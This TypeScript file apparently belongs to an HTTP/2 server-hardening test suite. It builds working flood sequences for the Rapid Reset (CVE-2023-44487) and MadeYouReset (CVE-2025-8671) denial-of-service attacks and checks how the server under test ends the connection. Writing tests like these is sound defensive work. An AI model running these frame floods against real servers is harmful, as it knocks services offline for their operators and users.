/** Streams that are begun to be thrown away: by the client (CVE-2023-44487), or by the server whom the client makes do it (CVE-2025-8671). */
import {
  Code,
  data,
  Flag,
  frame,
  headers,
  literal,
  MAX_31,
  namedLiteral,
  priority,
  requestBlock,
  rst,
  Type,
  times,
  uint32,
  windowUpdate,
} from '../../rig/http2-bytes.ts';
import { type Attack, each, flood, judgeEnding, load, openingWithWindow, pour } from '../attack.ts';

const GET = requestBlock('GET', '/');
const GET_WAIT = requestBlock('GET', '/wait');
const POST_READ = requestBlock('POST', '/read', namedLiteral(28, '10'));
const HEAD_ONLY = Flag.endHeaders;

/** Streams that may be begun before a flood of resets is ended: some thousand, where the default burst is 200. */
const MAX_STREAMS = 2_500;

function resets(id: string, why: string, stream: (id: number, n: number) => readonly Uint8Array[]): Attack {
  return flood({ id: `rapid-reset/${id}`, why: `CVE-2023-44487: ${why}`, batch: each(100, stream), count: 200, maxStreams: MAX_STREAMS });
}

const RAPID_RESET: readonly Attack[] = [
  resets('at-once', 'HEADERS and RST_STREAM, over and over', (id) => [headers(id, GET), rst(id, Code.cancel)]),
  resets('waiting', 'of requests whose handler waits', (id) => [headers(id, GET_WAIT), rst(id, Code.cancel)]),
  resets('open', 'of requests whose body has not begun', (id) => [headers(id, POST_READ, HEAD_ONLY), rst(id, Code.cancel)]),
  resets('half-body', 'after half of the body', (id) => [
    headers(id, POST_READ, HEAD_ONLY),
    data(id, Buffer.alloc(5)),
    rst(id, Code.cancel),
  ]),
  resets('no-error', 'with the code that means no harm', (id) => [headers(id, GET), rst(id, Code.noError)]),
  resets('refused', 'with the code of a refusal', (id) => [headers(id, GET), rst(id, Code.refused)]),
  resets('any-code', 'with a different code each time', (id, n) => [headers(id, GET_WAIT), rst(id, (n * 2_654_435_761) >>> 0)]),
  resets('between-others', 'every other stream runs to its end', (id, n) =>
    n % 2 === 0 ? [headers(id, GET)] : [headers(id, GET), rst(id, Code.cancel)],
  ),
  resets('big', 'while 1 MiB is being answered', (id) => [headers(id, requestBlock('GET', '/big')), rst(id, Code.cancel)]),
  flood({
    id: 'rapid-reset/one-a-write',
    why: 'CVE-2023-44487: one stream a segment, so that no tick sees many',
    batch: each(1, (id) => [headers(id, GET_WAIT), rst(id, Code.cancel)]),
    count: 20_000,
    maxStreams: MAX_STREAMS,
  }),
  flood({
    id: 'rapid-reset/delayed',
    why: 'CVE-2023-44487: streams are opened first and reset a batch later',
    batch: (n) => {
      const frames: Uint8Array[] = [];
      for (let i = 0; i < 50; i++) {
        if (n > 0) frames.push(rst(2 * ((n - 1) * 50 + i) + 1, Code.cancel));
        frames.push(headers(2 * (n * 50 + i) + 1, GET_WAIT));
      }
      return Buffer.concat(frames);
    },
    count: 400,
    maxStreams: MAX_STREAMS,
  }),
  flood({
    id: 'rapid-reset/sustained-above',
    why: 'CVE-2023-44487: bursts below the limit, at a rate above it',
    batch: each(20, (id) => [headers(id, GET_WAIT), rst(id, Code.cancel)]),
    count: 100,
    everyMs: 50,
    ms: 5_000,
    pace: 'slow',
    maxStreams: MAX_STREAMS,
  }),
  load({
    id: 'rapid-reset/sustained-below',
    why: 'CVE-2023-44487: at a rate that people reach who click about; it may be borne',
    pace: 'slow',
    ms: 4_000,
    async load({ connect }) {
      const peer = await connect();
      await pour(peer, { batch: each(2, (id) => [headers(id, GET_WAIT), rst(id, Code.cancel)]), count: 60, everyMs: 66 });
      return peer.isClosed && peer.goaways.length === 0 ? 'closed without a word' : null;
    },
  }),
  load({
    id: 'rapid-reset/spread',
    why: 'CVE-2023-44487: a burst below the limit on each of 60 connections',
    ms: 0,
    pace: 'alone',
    async load({ connect }) {
      const batch = each(90, (id) => [headers(id, GET_WAIT), rst(id, Code.cancel)])(0);
      for (let i = 0; i < 60; i++) (await connect()).write(batch);
      return null;
    },
  }),
  flood({
    id: 'rapid-reset/paid',
    why: 'CVE-2023-44487: seven of eight requests run to their end, to pay for the one that is reset: it may be borne',
    batch: each(40, (id, n) => (n % 8 > 0 ? [headers(id, GET)] : [headers(id, GET_WAIT), rst(id, Code.cancel)])),
    count: 100,
    mayBeBorne: true,
    codes: [Code.calm, Code.noError],
  }),
  flood({
    id: 'rapid-reset/deaf',
    why: 'CVE-2023-44487: of answers of 1 MiB, by a client that reads none of it: what was made for them must go with them',
    batch: each(10, (id) => [headers(id, requestBlock('GET', '/big')), rst(id, Code.cancel)]),
    count: 1_000,
    isDeaf: true,
  }),
  flood({
    id: 'rapid-reset/by-trailers',
    why: 'CVE-2023-44487: bodies that are ended by trailers and reset at once',
    batch: each(100, (id) => [headers(id, requestBlock('POST', '/wait'), HEAD_ONLY), headers(id, literal('a', 'b')), rst(id, Code.cancel)]),
    count: 200,
    maxStreams: MAX_STREAMS,
  }),
  flood({
    id: 'rapid-reset/after-answer',
    why: 'RST_STREAM for streams whose answer is whole: harmless, but not for nothing',
    batch: each(20, (id) => [headers(id, GET), ...(id > 2_001 ? [rst(id - 2_000, Code.cancel)] : [])]),
    count: 200,
    everyMs: 5,
    mayBeBorne: true,
    codes: [Code.calm, Code.noError],
  }),
  {
    id: 'rapid-reset/after-head',
    why: 'CVE-2023-44487: each stream is reset when the head of its answer has come and before its body, for which there is no window',
    async run({ connect }) {
      const peer = await connect(openingWithWindow(0));
      let next = 1;
      const begin = (): Buffer => {
        const id = next;
        next += 2;
        return headers(id, requestBlock('GET', '/big'));
      };
      peer.onFrame = (type, _flags, id) => {
        if (type === Type.headers && !peer.isOver) peer.write(rst(id, Code.cancel), begin());
      };
      peer.write(...Array.from({ length: 50 }, begin));
      await peer.until(() => peer.isOver, 4_000);
      return await judgeEnding(peer, { codes: [Code.calm], maxStreams: MAX_STREAMS });
    },
  },
  flood({
    id: 'rapid-reset/again-and-again',
    why: 'RST_STREAM for a stream that is closed already',
    before: Buffer.concat([headers(1, GET_WAIT), rst(1, Code.cancel)]),
    batch: () => times(200, rst(1, Code.cancel)),
    count: 500,
    codes: [Code.calm, Code.streamClosed],
  }),
];

/** One kind of fault for which a server resets the stream. */
function madeYouReset(id: string, why: string, own: readonly number[], stream: (id: number, n: number) => readonly Uint8Array[]): Attack {
  return flood({
    id: `made-you-reset/${id}`,
    why: `CVE-2025-8671: ${why}`,
    batch: each(50, stream),
    count: 200,
    // The RFC allows, and for some demands, that the connection ends by the very first.
    codes: [Code.calm, ...own],
    maxStreams: MAX_STREAMS,
  });
}

const BAD = [Code.protocol];
const MADE_YOU_RESET: readonly Attack[] = [
  madeYouReset('window-zero', 'a WINDOW_UPDATE of 0', BAD, (id) => [headers(id, GET_WAIT), windowUpdate(id, 0)]),
  madeYouReset('window-overflow', 'a window beyond 2^31-1', [Code.flowControl], (id) => [headers(id, GET_WAIT), windowUpdate(id, MAX_31)]),
  madeYouReset('priority-length', 'a PRIORITY of 4 bytes', [Code.frameSize], (id) => [
    headers(id, GET_WAIT),
    frame(Type.priority, 0, id, Buffer.alloc(4)),
  ]),
  madeYouReset('priority-self', 'a stream that depends on itself', BAD, (id) => [headers(id, GET_WAIT), priority(id, id)]),
  madeYouReset('headers-priority-self', 'HEADERS of a stream that depends on itself', BAD, (id) => [
    headers(id, Buffer.concat([uint32(id), Buffer.of(15), GET_WAIT]), Flag.endHeaders | Flag.endStream | Flag.priority),
    rst(id, Code.cancel),
  ]),
  madeYouReset('rst-length', 'an RST_STREAM of 3 bytes', [Code.frameSize], (id) => [
    headers(id, GET_WAIT),
    frame(Type.rstStream, 0, id, Buffer.alloc(3)),
  ]),
  madeYouReset('half-closed-data', 'DATA after END_STREAM', [Code.streamClosed], (id) => [
    headers(id, GET_WAIT),
    data(id, Buffer.alloc(1)),
  ]),
  madeYouReset('half-closed-headers', 'HEADERS after END_STREAM', [Code.streamClosed, ...BAD], (id) => [
    headers(id, GET_WAIT),
    headers(id, GET_WAIT),
  ]),
  madeYouReset('body-too-long', 'more body than content-length', BAD, (id) => [
    headers(id, requestBlock('POST', '/wait', namedLiteral(28, '1')), HEAD_ONLY),
    data(id, Buffer.alloc(2)),
  ]),
  madeYouReset('body-too-short', 'END_STREAM before content-length', BAD, (id) => [
    headers(id, requestBlock('POST', '/wait', namedLiteral(28, '9')), HEAD_ONLY),
    data(id, Buffer.alloc(2), true),
  ]),
  madeYouReset('no-body', 'content-length, but no body', BAD, (id) => [headers(id, requestBlock('POST', '/wait', namedLiteral(28, '9')))]),
  madeYouReset('upper-case', 'a field name in upper case', BAD, (id) => [headers(id, requestBlock('GET', '/wait', literal('X-Bad', 'y')))]),
  madeYouReset('connection-field', 'a connection field', BAD, (id) => [
    headers(id, requestBlock('GET', '/wait', literal('connection', 'keep-alive'))),
  ]),
  madeYouReset('no-path', 'no :path', BAD, (id) => [headers(id, Buffer.of(0x82, 0x86))]),
  madeYouReset('late-pseudo', 'a pseudo-field behind a field', BAD, (id) => [
    headers(id, Buffer.concat([requestBlock('GET', '/wait', literal('a', 'b')), Buffer.of(0x82)])),
  ]),
  madeYouReset('bad-value', 'a line feed in a value', BAD, (id) => [headers(id, requestBlock('GET', '/wait', literal('a', 'b\nc')))]),
  madeYouReset('bad-length', 'a content-length that is no number', BAD, (id) => [
    headers(id, requestBlock('POST', '/wait', namedLiteral(28, '+1')), HEAD_ONLY),
  ]),
  madeYouReset('trailer-pseudo', 'trailers with a pseudo-field', BAD, (id) => [
    headers(id, requestBlock('POST', '/wait'), HEAD_ONLY),
    headers(id, Buffer.of(0x84)),
  ]),
  madeYouReset('trailer-open', 'trailers that do not end the stream', BAD, (id) => [
    headers(id, requestBlock('POST', '/wait'), HEAD_ONLY),
    headers(id, literal('a', 'b'), HEAD_ONLY),
  ]),
  madeYouReset(
    'mixed',
    'another fault each time',
    [Code.flowControl, Code.frameSize, Code.streamClosed, ...BAD],
    (id, n) =>
      [
        [headers(id, GET_WAIT), windowUpdate(id, 0)],
        [headers(id, requestBlock('GET', '/wait', literal('X-Bad', 'y')))],
        [headers(id, GET_WAIT), rst(id, Code.cancel)],
        [headers(id, requestBlock('POST', '/wait', namedLiteral(28, '9')))],
      ][n % 4] ?? [],
  ),
  {
    id: 'made-you-reset/beyond-window',
    why: 'CVE-2025-8671: DATA beyond the window of each stream',
    async run({ connect }) {
      const peer = await connect();
      const frames: Uint8Array[] = [];
      const sent = await pour(peer, {
        count: 250,
        batch(n) {
          const id = 2 * n + 1;
          frames.length = 0;
          frames.push(headers(id, requestBlock('POST', '/stuck'), HEAD_ONLY));
          // More than a window that nobody reads from grows to, and what a proxy has sent on besides.
          for (let i = 0; i < 24; i++) frames.push(data(id, Buffer.alloc(16_384)));
          return Buffer.concat(frames);
        },
      });
      const problem = await judgeEnding(peer, { codes: [Code.calm, Code.flowControl] });
      return problem === null ? null : `${problem} (after ${sent} streams)`;
    },
  },
];

export const RESET_ATTACKS: readonly Attack[] = [...RAPID_RESET, ...MADE_YOU_RESET];
